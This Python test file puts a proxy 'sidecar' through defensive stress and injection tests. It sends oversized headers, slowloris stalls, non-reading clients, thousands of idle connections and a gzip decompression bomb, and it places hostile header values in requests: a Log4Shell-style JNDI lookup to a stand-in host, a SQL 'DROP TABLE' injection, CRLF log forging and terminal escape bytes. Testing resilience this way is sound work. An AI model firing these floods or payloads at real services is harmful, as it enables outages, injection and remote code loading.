"""Floods before a real process: heads, targets, connections, slow clients, bombs; another client is served meanwhile."""

import contextlib
import gzip
import json
import resource
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from sidecar.clock import monotonic
from tests.e2e.hostile import Recorder, asked, connection, read_all, send, statuses
from tests.e2e.process import LOOPBACK, Sidecar, ask
from tests.fixtures.waiting import wait_for

MIB = 2**20
CHAT = b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
TIMERS = {"head_timeout": "2s", "body_stall_timeout": "2s", "keepalive_idle": "3s"}


@contextlib.contextmanager
def before(folder: Path, **settings: object) -> Iterator[tuple[Sidecar, Recorder]]:
    """A process in front of a recorder; it has to end well."""
    with Recorder() as recorder, Sidecar(folder, recorder.url, **settings) as sidecar:
        yield sidecar, recorder
        assert sidecar.stop() == 0, sidecar.output()[-2000:]
        assert "Traceback" not in sidecar.output()
        assert not recorder.broken


@pytest.fixture(scope="module")
def pair(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Sidecar, Recorder]]:
    """One process for the tests that leave nothing behind."""
    with before(tmp_path_factory.mktemp("floods")) as both:
        yield both


def rss(sidecar: Sidecar) -> int:
    return int(psutil.Process(sidecar.process.pid).memory_info().rss)


HEADS = {
    "one long value": CHAT + b"X-A: " + b"a" * 70_000 + b"\r\n\r\n",
    "one long name": CHAT + b"X" * 70_000 + b": a\r\n\r\n",
    "many fields": CHAT + b"X-A: b\r\n" * 10_000 + b"\r\n",
    "many short fields": CHAT + b"a:\r\n" * 20_000 + b"\r\n",
    "many cookies": CHAT + b"Cookie: a=b\r\n" * 6_000 + b"\r\n",
    "a long target": b"GET /v1/" + b"a" * 70_000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "a long query": b"GET /v1/x?" + b"a=b&" * 20_000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "a long host": b"GET /v1/x HTTP/1.1\r\nHost: " + b"a" * 70_000 + b"\r\n\r\n",
    "a long method": b"A" * 70_000 + b" /v1/x HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "no end": b"GET /v1/" + b"a" * 200_000,
    "a long connection": CHAT + b"Connection: " + b"a," * 40_000 + b"\r\n\r\n",
}


def test_heads_over_the_limit_are_431(pair: tuple[Sidecar, Recorder]) -> None:
    """INC-43: long and many fields, targets and names: 431 and closed, nothing sent up; thirty of each take no memory."""
    sidecar, recorder = pair
    assert statuses(asked(sidecar.port)) == [200]
    memory = 0
    for turn in range(31):
        for name, head in HEADS.items():
            with connection(sidecar.port) as sock:
                send(sock, head)
                assert statuses(read_all(sock)) == [431], name
        assert statuses(asked(sidecar.port)) == [200]
        memory = memory if turn else rss(sidecar)  # the first turn loads, and may compile, what later ones use
    assert rss(sidecar) - memory < 8 * MIB
    assert {one.body for one in recorder.take()} == {b'{"model":"m"}'}


def test_heads_just_below_the_limit_pass(pair: tuple[Sidecar, Recorder]) -> None:
    """INC-43: what is let in goes up whole, and many fields cost no more than their bytes."""
    many = [f"X-{number}: b" for number in range(5_000)]
    sidecar, recorder = pair
    began = monotonic()
    for path, *lines in (["/v1/chat/completions", *many], [f"/v1/{'a' * 60_000}"], ["/v1/x", f"X-A: {'a' * 60_000}"]):
        assert statuses(asked(sidecar.port, path, *lines)) == [200]
        (one,) = recorder.take()
        assert one.target == path.encode()
        assert len(one.fields) >= len(lines)
    print("seconds of three large heads:", round(monotonic() - began, 3))


def promised(size: int) -> bytes:
    return CHAT + b"Content-Length: %d\r\n\r\n{" % size


SLOW = {
    "head": CHAT[:40],
    "body": promised(1_000_000),
    "large body": promised(8_000_000),  # thirteen of these fill the room for bodies that are held
    "passed body": promised(1000).replace(b"chat/completions", b"files"),
    "chunks": CHAT + b"Transfer-Encoding: chunked\r\n\r\n5\r\nab",
    "chunk size": CHAT + b"Transfer-Encoding: chunked\r\n\r\n0000",
    "trailer": CHAT + b"Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nX-A",
}


def test_the_slow_do_not_hold_the_others(tmp_path: Path) -> None:
    """INC-43: slowloris in head, body, chunk and trailer, 20 of each: a client with a small and one with a large body are
    served meanwhile; the slow are told 408 and closed when their timer is up; no connection of theirs stays, up or down."""
    large = b'{"model":"m","x":"' + b"x" * 700_000 + b'"}'
    with before(tmp_path, **TIMERS) as (sidecar, recorder), contextlib.ExitStack() as stack:
        slow = {name: [stack.enter_context(connection(sidecar.port)) for _ in range(20)] for name in SLOW}
        for name, socks in slow.items():
            for sock in socks:
                send(sock, SLOW[name])
        assert statuses(asked(sidecar.port)) == [200]
        assert statuses(asked(sidecar.port, body=large)) == [200]
        for name, socks in slow.items():
            for sock in socks:
                # a large body may have had to wait for room, which it is told by 503
                assert statuses(read_all(sock))[0] in (408, 503), name
        assert sorted(len(one.body) for one in recorder.take()) == [13, len(large)]
        process = psutil.Process(sidecar.process.pid)
        stack.close()
        assert wait_for(lambda: len(process.net_connections("tcp")) < 12, 6.0, 0.2)


class Pouring:
    """An upstream that answers each connection with 4 MiB."""

    BODY = b"x" * 4 * MIB

    def __init__(self) -> None:
        self._sock = socket.create_server((LOOPBACK, 0), backlog=1024)
        self.port = self._sock.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                peer, _ = self._sock.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(peer,), daemon=True).start()

    def _serve(self, peer: socket.socket) -> None:
        with peer, contextlib.suppress(OSError):
            peer.recv(65536)
            head = b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nConnection: close\r\n"
            peer.sendall(head + b"Content-Length: %d\r\n\r\n" % len(self.BODY) + self.BODY)

    def close(self) -> None:
        self._sock.shutdown(socket.SHUT_RDWR)
        self._sock.close()


def test_clients_that_do_not_read_cost_little(tmp_path: Path) -> None:
    """INC-18, INC-43: 100 clients ask for 4 MiB each and read nothing: another one gets all of its own at once, and the
    process holds less than 1 MiB for each of them (the kernel's buffers are not in it)."""
    upstream = Pouring()
    with Sidecar(tmp_path, f"http://{LOOPBACK}:{upstream.port}") as sidecar, contextlib.ExitStack() as stack:
        memory = rss(sidecar)
        for _ in range(100):
            deaf = socket.socket()
            deaf.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            deaf.connect((LOOPBACK, sidecar.port))
            stack.enter_context(deaf)
            deaf.sendall(promised(2).replace(b"chat/completions", b"files") + b"}")
        for _ in range(5):
            assert asked(sidecar.port, "/v1/files").endswith(b"x" * 4 * MIB)
        grown = rss(sidecar) - memory
        print("MiB for a hundred deaf clients:", round(grown / MIB, 1))
        assert grown < 100 * MIB
        stack.close()
        assert sidecar.stop() == 0
    upstream.close()


def test_a_packed_request_is_not_opened(pair: tuple[Sidecar, Recorder]) -> None:
    """SEC-BOMBS: 256 MiB of JSON packed into a quarter of a megabyte goes up as it is: nobody opens it on the way."""
    bomb = gzip.compress(b'{"model":"m","x":"' + b" " * 256 * MIB + b'"}', 6)
    sidecar, recorder = pair
    memory = rss(sidecar)
    for coding in ("gzip", "deflate", "br", "zstd", "gzip, gzip"):
        assert statuses(asked(sidecar.port, "/v1/chat/completions", f"Content-Encoding: {coding}", body=bomb)) == [200]
    assert {one.body for one in recorder.take()} == {bomb}
    assert rss(sidecar) - memory < 16 * MIB


WORDS = {
    "path": b"/v1/\xe2\x80\xa8%0d%0a%7B%22level%22:%22forged%22%7D\x9b31m",
    "query": b"/v1/x?k=%0d%0aforged&key=AIzaCANARY",
}
FIELDS = [
    b"User-Agent: \xe2\x80\xa8forged\x9b2J${jndi:ldap://forged/a}",
    b"X-Sidecar-Session: a\x85forged",
    b'X-Sidecar-Tags: a="b",forged=\xff\xfe',
    b"X-Sidecar-Customer: '; DROP TABLE decisions; --",
    b"traceparent: 00-forged-\x9b-01",
    b"X-Request-Id: %0aforged",
]


def test_words_of_a_head_stay_words(tmp_path: Path) -> None:
    """SEC-INJECTION: line separators, terminal codes of one byte, lookups and SQL in targets and fields, also where the
    request is refused: each line of the log is one object of JSON that can be printed, and no value of a field is in it."""
    with before(tmp_path) as (sidecar, _):
        sent = 0
        for path in (*WORDS.values(), b"/v1/chat/completions", b"/\xe2\x80\xa8forged"):
            for line in FIELDS:
                head = b"POST " + path + b" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + line + b"\r\n"
                with connection(sidecar.port) as sock:
                    send(sock, head + b"Content-Length: 2\r\n\r\n{}")
                    answer = read_all(sock)
                assert statuses(answer), (path, line)
                assert b"\x9b" not in answer
                sent += statuses(answer) == [200]
        assert sidecar.stop() == 0
        lines = sidecar.request_log.read_bytes().decode().splitlines()
        assert len(lines) == sent > 10
        for text in (*lines, *sidecar.output().splitlines()):
            assert text.isprintable(), text
        assert all(isinstance(json.loads(line), dict) for line in lines)
        assert "jndi" not in "".join(lines)
        assert "CANARY" not in "".join(lines) + sidecar.output()
        assert len(sidecar.decisions()) == sent


COUNT, SPARE = 5_000, 500
HARD = resource.getrlimit(resource.RLIMIT_NOFILE)[1]


@pytest.mark.campaign
@pytest.mark.skipif(HARD < COUNT + SPARE, reason=f"needs {COUNT + SPARE} descriptors, and {HARD} can be had")
def test_five_thousand_idle_connections(tmp_path: Path) -> None:
    """INC-43: 5,000 connections, a tenth of them with half a head: a client is served among them, none of its 100 calls
    waits for a timer of theirs, the process holds less than 20 KiB for each; when their timers are up they are gone."""
    soft = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, COUNT + SPARE), HARD))
    try:
        with (
            before(tmp_path, head_timeout="20s", keepalive_idle="20s") as (sidecar, _),
            contextlib.ExitStack() as stack,
        ):
            process, memory, began = psutil.Process(sidecar.process.pid), rss(sidecar), monotonic()
            for number in range(COUNT):
                idle = stack.enter_context(socket.create_connection((LOOPBACK, sidecar.port)))
                idle.sendall(CHAT[:30] if number % 10 == 0 else b"")
            took = []
            for _ in range(100):
                at = monotonic()
                assert statuses(asked(sidecar.port)) == [200]
                took.append(monotonic() - at)
            assert ask(sidecar.health_port, "GET", "/health")[0] == 200
            grown = rss(sidecar) - memory
            print(f"{COUNT} connections in {monotonic() - began:.1f} s, {grown / COUNT / 1024:.1f} KiB each;", end=" ")
            print(f"calls among them: median {sorted(took)[50] * 1e3:.1f} ms, worst {max(took) * 1e3:.1f} ms")
            assert max(took) < 2.0
            assert grown < COUNT * 20 * 1024
            assert wait_for(lambda: process.num_fds() < 200, 40.0, 0.5), "the flood is still there"
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, HARD))
